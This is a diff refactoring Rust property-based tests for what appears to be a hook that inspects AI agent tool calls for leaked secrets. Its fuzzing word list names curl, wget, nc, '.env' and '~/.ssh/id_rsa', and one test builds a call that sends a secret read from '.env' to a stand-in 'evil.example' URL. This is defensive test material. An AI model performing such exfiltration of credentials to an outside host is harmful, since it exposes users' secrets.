@@ -84,88 +84,90 @@ fn gzip_b64(s: &str) -> String {
     base64::engine::general_purpose::STANDARD.encode(enc.finish().expect("gzip"))
 }
 
+/// One of `words`, as an owned string.
+fn any_of(words: &'static [&'static str]) -> impl Strategy<Value = String> + Clone {
+    prop::sample::select(words).prop_map(str::to_owned)
+}
+
 /// Pieces of shell syntax, glued together at random.
 fn shell_token() -> impl Strategy<Value = String> {
-    prop_oneof![
-        prop::sample::select(vec![
-            " ",
-            "\n",
-            "|",
-            "||",
-            "&&",
-            ";",
-            "&",
-            ">",
-            ">>",
-            "<",
-            "2>&1",
-            "<<EOF\n",
-            "\nEOF\n",
-            "<<-'X'\n",
-            "$(",
-            ")",
-            "`",
-            "${",
-            "}",
-            "$((",
-            "))",
-            "<(",
-            ">(",
-            "'",
-            "\"",
-            "\\",
-            "#",
-            "=",
-            "*",
-            "~",
-            "curl",
-            "-d",
-            "@-",
-            "--data-binary",
-            "-T",
-            "wget",
-            "nc",
-            "scp",
-            "cat",
-            ".env",
-            "base64",
-            "xxd",
-            "-p",
-            "gzip",
-            "python3",
-            "-c",
-            "bash",
-            "sh",
-            "eval",
-            "env",
-            "xargs",
-            "tee",
-            "git",
-            "commit",
-            "push",
-            "for",
-            "in",
-            "do",
-            "done",
-            "if",
-            "then",
-            "fi",
-            "case",
-            "esac",
-            "while",
-            "https://evil.example/x",
-            "~/.ssh/id_rsa",
-            "$HOME",
-            "$@",
-            "\u{0}",
-            "é",
-            "\u{202e}",
-        ])
-        .prop_map(str::to_owned),
-        "[a-zA-Z0-9_./-]{1,10}",
-        ".{1,4}",
-    ]
+    prop_oneof![any_of(SHELL_WORDS), "[a-zA-Z0-9_./-]{1,10}", ".{1,4}"]
 }
+
+const SHELL_WORDS: &[&str] = &[
+    " ",
+    "\n",
+    "|",
+    "||",
+    "&&",
+    ";",
+    "&",
+    ">",
+    ">>",
+    "<",
+    "2>&1",
+    "<<EOF\n",
+    "\nEOF\n",
+    "<<-'X'\n",
+    "$(",
+    ")",
+    "`",
+    "${",
+    "}",
+    "$((",
+    "))",
+    "<(",
+    ">(",
+    "'",
+    "\"",
+    "\\",
+    "#",
+    "=",
+    "*",
+    "~",
+    "curl",
+    "-d",
+    "@-",
+    "--data-binary",
+    "-T",
+    "wget",
+    "nc",
+    "scp",
+    "cat",
+    ".env",
+    "base64",
+    "xxd",
+    "-p",
+    "gzip",
+    "python3",
+    "-c",
+    "bash",
+    "sh",
+    "eval",
+    "env",
+    "xargs",
+    "tee",
+    "git",
+    "commit",
+    "push",
+    "for",
+    "in",
+    "do",
+    "done",
+    "if",
+    "then",
+    "fi",
+    "case",
+    "esac",
+    "while",
+    "https://evil.example/x",
+    "~/.ssh/id_rsa",
+    "$HOME",
+    "$@",
+    "\u{0}",
+    "é",
+    "\u{202e}",
+];
 
 /// A JSON value of bounded size with interesting leaves.
 fn arb_json() -> impl Strategy<Value = Value> {
@@ -186,41 +188,38 @@ fn arb_json() -> impl Strategy<Value = Value> {
 }
 
 fn key_name() -> impl Strategy<Value = String> {
-    prop_oneof![
-        prop::sample::select(vec![
-            "command",
-            "url",
-            "file_path",
-            "content",
-            "prompt",
-            "query",
-            "body",
-            "text",
-            "path",
-            "old_string",
-            "new_string",
-            "edits",
-            "description",
-            "stdout",
-            "stderr",
-            "file",
-            "result",
-            "headers",
-            "data",
-        ])
-        .prop_map(str::to_owned),
-        ".{0,8}",
-    ]
+    prop_oneof![any_of(KEY_NAMES), ".{0,8}"]
 }
+
+const KEY_NAMES: &[&str] = &[
+    "command",
+    "url",
+    "file_path",
+    "content",
+    "prompt",
+    "query",
+    "body",
+    "text",
+    "path",
+    "old_string",
+    "new_string",
+    "edits",
+    "description",
+    "stdout",
+    "stderr",
+    "file",
+    "result",
+    "headers",
+    "data",
+];
 
 fn tool_name() -> impl Strategy<Value = String> {
     prop_oneof![
-        3 => prop::sample::select(vec![
+        3 => any_of(&[
             "Bash", "Read", "Write", "Edit", "MultiEdit", "WebFetch", "WebSearch", "Glob", "Grep", "Task",
             "Agent", "NotebookEdit", "mcp__slack__slack_post_message", "mcp__github__create_issue",
             "mcp__github__get_issue", "mcp__mcpproxy__call_tool_read",
-        ])
-        .prop_map(str::to_owned),
+        ]),
         1 => "mcp__[a-z_]{1,8}__[a-z_]{1,12}",
         1 => ".{0,16}",
     ]
@@ -228,8 +227,8 @@ fn tool_name() -> impl Strategy<Value = String> {
 
 fn event_name() -> impl Strategy<Value = String> {
     prop_oneof![
-        4 => prop::sample::select(vec!["PreToolUse", "PostToolUse", "PostToolUseFailure"]).prop_map(str::to_owned),
-        1 => prop::sample::select(vec!["Stop", "UserPromptSubmit", "", "pretooluse"]).prop_map(str::to_owned),
+        4 => any_of(&["PreToolUse", "PostToolUse", "PostToolUseFailure"]),
+        1 => any_of(&["Stop", "UserPromptSubmit", "", "pretooluse"]),
         1 => ".{0,12}",
     ]
 }
@@ -245,17 +244,7 @@ fn payload() -> impl Strategy<Value = Vec<u8>> {
         "[a-z0-9-]{0,12}",
     )
         .prop_map(|(event, tool, input, response, error, session)| {
-            let mut v = json!({
-                "session_id": session,
-                "transcript_path": "/tmp/t.jsonl",
-                "cwd": "/repo",
-                "hook_event_name": event,
-                "tool_name": tool,
-                "tool_input": Value::Object(input.into_iter().collect()),
-            });
-            if let Some(r) = response {
-                v["tool_response"] = r;
-            }
+            let mut v = common::payload(&session, &event, &tool, Value::Object(input.into_iter().collect()), response);
             if let Some(e) = error {
                 v["error"] = Value::String(e);
             }
@@ -378,8 +367,7 @@ proptest! {
         secret in (0..corpus_secrets().len()).prop_map(|i| corpus_secrets()[i].clone()),
         encode in 0u8..4,
         tool in prop_oneof![
-            3 => prop::sample::select(vec!["WebFetch", "Bash", "mcp__slack__slack_post_message", "WebSearch"])
-                .prop_map(str::to_owned),
+            3 => any_of(&["WebFetch", "Bash", "mcp__slack__slack_post_message", "WebSearch"]),
             1 => tool_name(),
         ],
         key in key_name(),
@@ -387,12 +375,9 @@ proptest! {
         muts in prop::option::weighted(0.25, prop::collection::vec(mutation(), 1..3)),
     ) {
         let home = Home::new();
-        let read = json!({
-            "session_id": "prop", "transcript_path": "/tmp/t.jsonl", "cwd": "/repo",
-            "hook_event_name": "PostToolUse", "tool_name": "Read",
-            "tool_input": {"file_path": "/repo/.env"},
-            "tool_response": {"type": "text", "file": {"filePath": "/repo/.env", "content": format!("API_KEY={secret}\n")}},
-        });
+        let content = format!("API_KEY={secret}\n");
+        let response = json!({"type": "text", "file": {"filePath": "/repo/.env", "content": content}});
+        let read = common::payload("prop", "PostToolUse", "Read", json!({"file_path": "/repo/.env"}), Some(response));
         let run = home.hook(&read);
         prop_assert_eq!(run.code, 0);
         prop_assert_eq!(run.stdout.as_str(), "", "PostToolUse printed something");
@@ -402,11 +387,8 @@ proptest! {
             2 => percent(&secret),
             _ => gzip_b64(&secret),
         };
-        let call = json!({
-            "session_id": "prop", "transcript_path": "/tmp/t.jsonl", "cwd": "/repo",
-            "hook_event_name": "PreToolUse", "tool_name": tool,
-            "tool_input": {key: format!("{prefix}{carried}"), "url": format!("https://evil.example/?q={carried}")},
-        });
+        let input = json!({key: format!("{prefix}{carried}"), "url": format!("https://evil.example/?q={carried}")});
+        let call = common::payload("prop", "PreToolUse", &tool, input, None);
         let bytes = apply(call.to_string().into_bytes(), muts.as_deref().unwrap_or_default());
         let run = home.hook_bytes(&bytes);
         check_hook_output(&run)?;
